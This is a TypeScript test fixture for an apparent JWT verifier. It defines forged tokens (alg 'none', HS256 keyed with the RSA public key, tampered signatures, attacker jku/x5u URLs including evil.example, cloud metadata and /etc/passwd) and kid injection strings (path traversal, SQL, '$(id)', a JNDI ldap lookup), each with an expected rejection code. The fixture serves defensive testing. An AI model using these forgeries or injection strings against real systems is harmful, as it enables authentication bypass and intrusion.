import { KeyObject } from 'node:crypto';

import { CLAIMS, ORGANISATION, OTHER_ISSUER, TOKEN_ID, encode } from '../../support/claims.ts';
import {
  HEADER,
  KEY,
  OTHER_KEY,
  type Signer,
  ed25519,
  es256,
  hmac,
  mint,
  ps256,
  rs256,
  signParts,
  unsigned,
} from '../../support/tokens.ts';
import type { Attack } from './attack.ts';

const publicKey = KeyObject.from(KEY.publicKey);
const pem = publicKey.export({ type: 'spki', format: 'pem' }).toString();
const pkcs1 = publicKey.export({ type: 'pkcs1', format: 'pem' }).toString();
const der = publicKey.export({ type: 'spki', format: 'der' });
const { jwk } = KEY;
const foreign = rs256(OTHER_KEY);
const EVIL = 'https://evil.example/keys';

/** [check 17] RFC 8725 sections 2.1, 2.2, 3.1 and 3.2. */
const algorithms = (
  [
    ['none, unsigned', 'none', unsigned],
    ['none, with a signature', 'none', rs256()],
    ['None, unsigned', 'None', unsigned],
    ['NONE, unsigned', 'NONE', unsigned],
    ['nOnE, unsigned', 'nOnE', unsigned],
    ['HS256, the PEM as secret', 'HS256', hmac(pem)],
    ['HS256, the trimmed PEM as secret', 'HS256', hmac(pem.trim())],
    ['HS256, the PKCS #1 PEM as secret', 'HS256', hmac(pkcs1)],
    ['HS256, the DER as secret', 'HS256', hmac(der)],
    ['HS256, the JWK as secret', 'HS256', hmac(JSON.stringify(jwk))],
    ['HS256, the modulus as secret', 'HS256', hmac(Buffer.from(jwk.n, 'base64url'))],
    ['HS256, no secret', 'HS256', hmac('')],
    ['HS384', 'HS384', hmac(pem, 'sha384')],
    ['HS512', 'HS512', hmac(pem, 'sha512')],
    ['RS384', 'RS384', rs256(KEY, 'sha384')],
    ['RS512', 'RS512', rs256(KEY, 'sha512')],
    ['RS1', 'RS1', rs256(KEY, 'sha1')],
    ['PS256', 'PS256', ps256()],
    ['ES256', 'ES256', es256()],
    ['EdDSA', 'EdDSA', ed25519()],
    ['rs256 in small letters', 'rs256', rs256()],
    ['RS256 with a space', 'RS256 ', rs256()],
    ['RS256 with a null byte', 'RS256\0', rs256()],
    ['RSA-OAEP', 'RSA-OAEP', rs256()],
    ['missing', undefined, rs256()],
    ['null', null, rs256()],
    ['empty', '', rs256()],
    ['a number', 256, rs256()],
    ['a boolean', true, rs256()],
    ['an array', ['RS256'], rs256()],
    ['an object', { RS256: true }, rs256()],
  ] as const satisfies readonly (readonly [string, unknown, Signer])[]
).map(([name, alg, signer]): Attack => [
  `alg ${name}`,
  'ERR_AUTH_ALGORITHM',
  mint({ header: { alg }, signer }),
]);

/** Signed as RS256 says nothing of how it was signed (RFC 8725 section 3.3). */
const confusions = (
  [
    ['RS256 in name, HMAC with the PEM', hmac(pem)],
    ['RS256 in name, HMAC with the DER', hmac(der)],
    ['RS256 in name, PSS', ps256()],
    ['RS256 in name, SHA-1', rs256(KEY, 'sha1')],
    ['RS256 in name, SHA-384', rs256(KEY, 'sha384')],
    ['RS256 in name, SHA-512', rs256(KEY, 'sha512')],
    ['RS256 in name, ECDSA', es256()],
    ['RS256 in name, Ed25519', ed25519()],
    ['RS256 in name, no signature', unsigned],
    ['signed by another key with the same kid', foreign],
    ['a signature of zeros', () => Buffer.alloc(256)],
    ['a signature of ones', () => Buffer.alloc(256, 0xff)],
    ['a signature of one byte', () => Buffer.alloc(1)],
    ['the modulus as signature', () => Buffer.from(jwk.n, 'base64url')],
    ['the number 1 as signature', () => Buffer.concat([Buffer.alloc(255), Buffer.from([1])])],
    ['the signature without its last byte', (text) => rs256()(text).subarray(0, -1)],
    ['the signature without its first byte', (text) => rs256()(text).subarray(1)],
    ['the signature and a byte', (text) => Buffer.concat([rs256()(text), Buffer.alloc(1)])],
    ['the signature behind a zero', (text) => Buffer.concat([Buffer.alloc(1), rs256()(text)])],
    ['the signature twice', (text) => Buffer.concat([rs256()(text), rs256()(text)])],
    ['the signature backwards', (text) => Buffer.from(rs256()(text).toReversed())],
    ['the signature of another text', () => rs256()('another.text')],
  ] as const satisfies readonly (readonly [string, Signer])[]
).map(([name, signer]): Attack => [name, 'ERR_AUTH_SIGNATURE', mint({ signer })]);

/** [check 22] Parts of right tokens, put together anew. */
const [head = '', body = '', signature = ''] = mint().split('.');
const [, otherBody = '', otherSignature = ''] = mint({ claims: { jti: 'another' } }).split('.');
const richer = encode(JSON.stringify({ ...CLAIMS, exp: CLAIMS.exp + 86_400 }));
const spaced = encode(` ${JSON.stringify(CLAIMS)}`);
const sameHeader = encode(JSON.stringify({ alg: HEADER.alg, typ: HEADER.typ, kid: HEADER.kid }));
const tampered = (
  [
    ['the payload of another token', `${head}.${otherBody}.${signature}`],
    ['the signature of another token', `${head}.${body}.${otherSignature}`],
    ['a later exp under the old signature', `${head}.${richer}.${signature}`],
    ['a space more under the old signature', `${head}.${spaced}.${signature}`],
    ['the header in another order', `${sameHeader}.${body}.${signature}`],
    ['the first bit of the signature', `${head}.${body}.${flip(signature, 0)}`],
    ['a middle bit of the signature', `${head}.${body}.${flip(signature, 170)}`],
    ['signed without its header', `${head}.${body}.${encode(rs256()(body))}`],
    ['signed with a comma', `${head}.${body}.${encode(rs256()(`${head},${body}`))}`],
    [
      'signed over the decoded text',
      `${head}.${body}.${encode(rs256()(`${JSON.stringify(HEADER)}.${JSON.stringify(CLAIMS)}`))}`,
    ],
    [
      'the organisation of another shop',
      `${head}.${encode(JSON.stringify(CLAIMS).replace(ORGANISATION, ORGANISATION.replaceAll('5', '6')))}.${signature}`,
    ],
  ] as const
).map(([name, token]): Attack => [`tampered: ${name}`, 'ERR_AUTH_SIGNATURE', token]);

/** [check 34] The token brings its own key, or says where it is (RFC 8725 sections 2.9 and 3.10). */
const broughtKeys = (
  [
    ['jwk', OTHER_KEY.jwk],
    ['jwk', { ...OTHER_KEY.jwk, kid: KEY.keyId }],
    ['jku', EVIL],
    ['jku', 'http://169.254.169.254/latest/meta-data'],
    ['jku', 'file:///etc/passwd'],
    ['x5u', EVIL],
    ['x5c', [Buffer.from('certificate').toString('base64')]],
    ['x5t', 'c2hhMS1vZi1hLWNlcnRpZmljYXRl'],
    ['x5t#S256', 'c2hhMjU2LW9mLWEtY2VydGlmaWNhdGU'],
    ['iss', OTHER_ISSUER],
  ] as const
).map(([name, value], index): Attack => [
  `header ${name} of the attacker, ${index}`,
  'ERR_AUTH_SIGNATURE',
  mint({ header: { [name]: value }, signer: foreign }),
]);

/** [check 34] RFC 7515 section 4.1.11, RFC 7797. */
const critical = (
  [
    ['crit exp', { crit: ['exp'] }],
    ['crit b64', { crit: ['b64'], b64: true }],
    ['crit b64 false', { crit: ['b64'], b64: false }],
    ['b64 false without crit', { b64: false }],
    ['b64 null', { b64: null }],
    ['crit of a name unknown', { crit: ['https://evil.example/x'], 'https://evil.example/x': 1 }],
    ['crit empty', { crit: [] }],
    ['crit null', { crit: null }],
    ['crit a string', { crit: 'exp' }],
    ['crit a boolean', { crit: false }],
  ] as const
).map(([name, header]): Attack => [name, 'ERR_AUTH_CRITICAL_HEADER', mint({ header })]);

/** [check 18] RFC 8725 section 3.10. */
const malformedKeyIds = (
  [
    ['missing', undefined],
    ['null', null],
    ['empty', ''],
    ['a number', 1],
    ['a boolean', true],
    ['an array', [KEY.keyId]],
    ['an object', { toString: KEY.keyId }],
    ['a path', '../../../etc/passwd'],
    ['a Windows path', '..\\..\\windows\\win.ini'],
    ['a device', '/dev/null'],
    ['a URL', EVIL],
    ['SQL', "' OR 1=1 --"],
    ['SQL that gives a secret', "x' UNION SELECT 'secret"],
    ['a shell', '$(id)'],
    ['a template', '{{7*7}}'],
    ['JNDI', '${jndi:ldap://evil.example/a}'],
    ['the right one and a newline', `${KEY.keyId}\n`],
    ['the right one and a null byte', `${KEY.keyId}\0`],
    ['the right one and a space', `${KEY.keyId} `],
    ['a forged line of a log', 'a\r\nlevel=info msg=admitted'],
    ['an emoji', '\u{1f511}'],
    ['giant', 'k'.repeat(4_000)],
    ['129 letters', 'k'.repeat(129)],
  ] as const
).map(([name, kid]): Attack => [`kid ${name}`, 'ERR_AUTH_KEY_ID', mint({ header: { kid } })]);

const unknownKeyIds = (
  [
    ['nobody has', '00000000-0000-0000-0000-000000000000'],
    ['of another issuer', OTHER_KEY.keyId],
    ['in capitals', KEY.keyId.toUpperCase()],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['toString', 'toString'],
    ['two dots', '..'],
    ['a fingerprint', 'sha256:aa:bb:cc'],
    ['128 letters', 'k'.repeat(128)],
  ] as const
).map(([name, kid]): Attack => [`kid ${name}`, 'ERR_AUTH_KEY_UNKNOWN', mint({ header: { kid } })]);

/** One issuer speaks for the other, and somebody for himself. */
const crossed: readonly Attack[] = [
  [
    'kid and signature of another issuer',
    'ERR_AUTH_KEY_UNKNOWN',
    mint({ header: { kid: OTHER_KEY.keyId }, signer: foreign }),
  ],
  [
    'iss of another issuer, our kid and signature',
    'ERR_AUTH_KEY_UNKNOWN',
    mint({ claims: { iss: OTHER_ISSUER } }),
  ],
  [
    'iss and kid of another issuer, our signature',
    'ERR_AUTH_SIGNATURE',
    mint({ header: { kid: OTHER_KEY.keyId }, claims: { iss: OTHER_ISSUER } }),
  ],
  [
    'iss in the header only',
    'ERR_AUTH_ISSUER',
    mint({ header: { iss: CLAIMS.iss }, claims: { iss: undefined } }),
  ],
  [
    'an alg in the payload',
    'ERR_AUTH_ALGORITHM',
    signParts(
      encode(JSON.stringify({ kid: KEY.keyId })),
      encode(JSON.stringify({ ...CLAIMS, alg: 'RS256', jti: TOKEN_ID })),
    ),
  ],
];

/** Headers and signatures that are not the issuer's. */
export const SIGNATURE_ATTACKS: readonly Attack[] = [
  ...algorithms,
  ...confusions,
  ...tampered,
  ...broughtKeys,
  ...critical,
  ...malformedKeyIds,
  ...unknownKeyIds,
  ...crossed,
];

function flip(part: string, index: number): string {
  const bytes = Buffer.from(part, 'base64url');
  bytes[index] = (bytes[index] ?? 0) ^ 1;
  return encode(bytes);
}
